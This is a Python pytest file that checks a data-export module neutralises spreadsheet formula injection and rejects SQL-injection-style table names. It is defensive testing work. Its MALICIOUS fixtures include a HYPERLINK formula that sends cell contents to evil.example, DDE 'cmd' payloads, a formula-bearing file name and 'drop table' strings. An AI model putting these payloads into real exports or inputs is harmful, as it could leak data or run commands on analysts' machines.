"""tpn_metrics.export: what an analyst exports never runs as a formula in a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import os
import stat
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

from tests.reliability.conftest import ingest
from tpn_metrics.export import ExportError, export_table, neutralise
from tpn_metrics.settings import Settings

MALICIOUS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Gasabo")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-5",  # text that looks like a number is still text: neutralised
)
HARMLESS = ("Gasabo", "Nyamata District Hospital", "", "a=b", " =not at the start")


@pytest.fixture
def warehouse(tmp_path: Path) -> duckdb.DuckDBPyConnection:
    con = duckdb.connect(str(tmp_path / "w.duckdb"))
    con.execute("create schema marts")
    con.execute(
        """
        create table marts.labels (
            label varchar, members_paid bigint, coverage_pct double, report_date date,
            is_focus boolean, "=evil column" varchar
        )
        """
    )
    rows = [
        (
            text,
            -5 if i == 0 else 1000 + i,
            -1.5 if i == 0 else 70.25,
            dt.date(2023, 3, 24),
            i % 2 == 0,
            "=1",
        )
        for i, text in enumerate((*MALICIOUS, *HARMLESS))
    ]
    rows.append((None, None, None, None, None, None))
    con.executemany("insert into marts.labels values (?, ?, ?, ?, ?, ?)", rows)
    yield con
    con.close()


def test_neutralise():
    for text in MALICIOUS:
        assert neutralise(text) == "'" + text
    for text in HARMLESS:
        assert neutralise(text) == text


def test_csv_export_neutralises_text_and_keeps_numbers(
    warehouse: duckdb.DuckDBPyConnection, tmp_path: Path
):
    target = tmp_path / "labels.csv"
    summary = export_table(warehouse, "marts.labels", target, format="csv")
    assert summary.rows == len(MALICIOUS) + len(HARMLESS) + 1
    # the malicious labels, the "=1" cell of every non-empty row, the "=evil column" header
    assert summary.cells_neutralised == len(MALICIOUS) + (summary.rows - 1) + 1
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with target.open(encoding="utf-8-sig", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == [
        "label",
        "members_paid",
        "coverage_pct",
        "report_date",
        "is_focus",
        "'=evil column",
    ]
    for text, row in zip(MALICIOUS, rows, strict=False):
        assert row[0] == "'" + text
    for text, row in zip(HARMLESS, rows[len(MALICIOUS) :], strict=False):
        assert row[0] == text
    assert rows[0][1:4] == ["-5", "-1.5", "2023-03-24"]  # numbers and dates are not touched
    assert b"\r\n-5," not in raw and b",-5," in raw  # a number, unquoted, unprefixed
    assert rows[-1] == ["", "", "", "", "", ""]


def test_xlsx_export_has_no_formula_cell(warehouse: duckdb.DuckDBPyConnection, tmp_path: Path):
    target = tmp_path / "labels.xlsx"
    export_table(warehouse, "marts.labels", target, format="xlsx")
    sheet = load_workbook(target).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    header = [cell.value for cell in next(sheet.iter_rows())]
    assert header[-1] == "'=evil column"
    labels = [row[0] for row in sheet.iter_rows(min_row=2)]
    for text, cell in zip(MALICIOUS, labels, strict=False):
        assert isinstance(cell.value, str) and cell.value.startswith("'"), cell.value
        assert cell.data_type == "s"
        # (XML turns a leading CR into LF; it stays text, after the quote.)
        assert cell.value[1:].lstrip().startswith(text.lstrip()[:3])
    first = next(sheet.iter_rows(min_row=2, max_row=2))
    assert first[1].value == -5 and first[1].data_type == "n"
    assert first[2].value == -1.5 and first[2].data_type == "n"
    assert first[3].data_type == "d" and first[3].value.date() == dt.date(2023, 3, 24)
    assert first[4].value is True


def test_a_file_name_is_attacker_controlled_and_exported_safely(settings: Settings, tmp_path: Path):
    """The ledger records file names as sent; a name can be a formula. Export neutralises it."""
    source = tmp_path / "=1+2+cmd|' -C calc'!A0.csv"
    source.write_bytes(b"")
    (outcome,) = ingest(settings, [source])
    assert outcome.status == "quarantined"
    con = duckdb.connect(str(settings.warehouse_path), read_only=True)
    try:
        export_table(con, "landing.file_ledger", tmp_path / "ledger.xlsx", format="xlsx")
        export_table(con, "landing.file_ledger", tmp_path / "ledger.csv")
    finally:
        con.close()
    sheet = load_workbook(tmp_path / "ledger.xlsx").active
    assert sheet is not None
    names = [c.value for c in next(sheet.iter_cols(min_row=2, max_col=2, min_col=2))]
    assert names == ["'=1+2+cmd|' -C calc'!A0.csv"]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert "'=1+2+cmd" in (tmp_path / "ledger.csv").read_text(encoding="utf-8-sig")


@pytest.mark.parametrize(
    "table",
    ["marts.labels; drop table marts.labels", 'marts."labels"', "a.b.c", "marts.nowhere", ""],
)
def test_only_existing_tables_named_plainly_are_exported(
    warehouse: duckdb.DuckDBPyConnection, tmp_path: Path, table: str
):
    with pytest.raises(ExportError):
        export_table(warehouse, table, tmp_path / "x.csv")
    assert not (tmp_path / "x.csv").exists()
    assert warehouse.execute("select count(*) from marts.labels").fetchone() == (13,)


def test_an_unknown_format_writes_nothing(warehouse: duckdb.DuckDBPyConnection, tmp_path: Path):
    with pytest.raises(ExportError, match="format must be 'csv' or 'xlsx'"):
        export_table(warehouse, "marts.labels", tmp_path / "x.pdf", format="pdf")  # type: ignore[arg-type]
    assert not [p for p in tmp_path.iterdir() if "x.pdf" in p.name]


def test_a_missing_folder_is_refused_not_created(
    warehouse: duckdb.DuckDBPyConnection, tmp_path: Path
):
    with pytest.raises(ExportError, match=r"no folder .*missing: create it first"):
        export_table(warehouse, "marts.labels", tmp_path / "missing" / "x.csv")
    assert not (tmp_path / "missing").exists()


def test_an_export_is_readable_by_others_as_the_umask_allows(
    warehouse: duckdb.DuckDBPyConnection, tmp_path: Path
):
    """mkstemp's private 0600 is not kept: a spreadsheet file is handed to people."""
    previous = os.umask(0o022)
    try:
        summary = export_table(warehouse, "marts.labels", tmp_path / "x.csv")
    finally:
        os.umask(previous)
    assert stat.S_IMODE(summary.path.stat().st_mode) == 0o644


def test_the_export_command_reads_the_analysts_snapshot_and_neutralises(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """`tpn export`: from the read-only snapshot when there is one, format from the suffix."""
    from typer.testing import CliRunner

    from tpn_metrics.cli import app
    from tpn_metrics.warehouse_swap import build_paths

    source = tmp_path / "=1+2+cmd|' -C calc'!A0.csv"
    source.write_bytes(b"")
    ingest(settings, [source])
    monkeypatch.setenv("TPN_HOME", str(settings.home))
    runner = CliRunner()

    live = runner.invoke(app, ["export", "landing.file_ledger", str(tmp_path / "ledger.xlsx")])
    assert live.exit_code == 0, live.output
    assert "1 row of landing.file_ledger" in live.output
    sheet = load_workbook(tmp_path / "ledger.xlsx").active
    assert sheet is not None
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)

    # A snapshot holding a different ledger is what the command exports when it exists.
    snapshot = build_paths(settings).snapshot
    con = duckdb.connect(str(snapshot))
    con.execute("create schema landing")
    con.execute("create table landing.file_ledger as select '=SNAPSHOT()' as file_name")
    con.close()
    from_snapshot = runner.invoke(app, ["export", "landing.file_ledger", str(tmp_path / "s.csv")])
    assert from_snapshot.exit_code == 0, from_snapshot.output
    text = (tmp_path / "s.csv").read_text(encoding="utf-8-sig")
    assert text.splitlines() == ["file_name", "'=SNAPSHOT()"]

    wrong = runner.invoke(app, ["export", "landing.file_ledger", str(tmp_path / "x.pdf")])
    assert wrong.exit_code == 2 and "name the file .csv or .xlsx" in wrong.output
    injected = runner.invoke(app, ["export", "landing.x; drop table y", str(tmp_path / "x.csv")])
    assert injected.exit_code == 2 and "is not a table name" in injected.output
